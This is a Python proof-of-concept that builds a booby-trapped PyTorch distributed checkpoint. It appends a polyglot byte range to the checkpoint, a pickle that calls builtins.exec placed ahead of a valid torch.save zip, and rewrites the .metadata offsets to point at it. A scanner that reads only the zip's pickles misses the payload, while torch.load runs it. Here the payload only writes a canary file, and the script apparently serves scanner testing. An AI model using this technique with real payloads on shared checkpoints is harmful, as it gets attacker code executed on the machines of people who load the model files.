"""torch.distributed.checkpoint: a non-tensor value is stored as a byte range of a data file that
DCP's load_bytes hands to torch.load(BytesIO(range), weights_only=False). This PoC points the
value's range at: a protocol-0 pickle (builtins.exec, writes a canary) followed by a harmless
torch.save zip whose directory counts the prefix. ckpt reads every range as a zip found from its
end (zipdir.read_central_directory on a SliceSource) and scans only that zip's pickles;
torch.load sees no "PK" at byte 0 of the range and unpickles it from byte 0."""
import io
import os
import pickle
import sys
import zipfile

import torch
import torch.distributed.checkpoint as dcp

canary = sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt_canary/dcp_slice"
folder = sys.argv[2] if len(sys.argv) > 2 else "dcp_ckpt"
dcp.save({"w": torch.zeros(2), "extra": {"step": 1}}, checkpoint_id=folder)

def polyglot(value):
    inner = io.BytesIO(); torch.save(value, inner)
    src = zipfile.ZipFile(io.BytesIO(inner.getvalue()))
    out = io.BytesIO()
    out.write(b"cbuiltins\nexec\n(V" + f"open({canary!r},'w').write('ran')".encode() + b"\ntR.")
    with zipfile.ZipFile(out, "a", zipfile.ZIP_STORED) as z:   # offsets include the prefix
        for info in src.infolist():
            z.writestr(info.filename, src.read(info.filename))
    return out.getvalue()

md_path = os.path.join(folder, ".metadata")
md = pickle.load(open(md_path, "rb"))
for index, info in md.storage_data.items():
    if index.fqn == "extra.step":
        data_path = os.path.join(folder, info.relative_path)
        start = os.path.getsize(data_path)
        blob = polyglot(1)
        with open(data_path, "ab") as f:
            f.write(blob)
        info.offset, info.length = start, len(blob)
pickle.dump(md, open(md_path, "wb"))
print("wrote", folder)
